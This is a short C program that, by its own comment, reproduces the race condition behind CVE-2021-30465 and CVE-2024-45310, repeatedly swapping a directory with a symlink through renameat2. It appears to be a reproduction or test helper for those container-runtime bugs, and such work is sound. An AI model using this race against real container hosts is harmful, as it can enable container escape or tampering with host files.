// The race of CVE-2021-30465 and CVE-2024-45310: swapper DIRECTORY NAME LINK-TARGET. Until it is killed it exchanges
// DIRECTORY/NAME, a directory, with a link of the other name that points to LINK-TARGET.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char** words) {
  if (count != 4 || chdir(words[1]) != 0) return 2;
  mkdir(words[2], 0755);
  if (symlink(words[3], "swapped") != 0) return 1;
  puts("swapping");
  fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, words[2], AT_FDCWD, "swapped", RENAME_EXCHANGE);
}
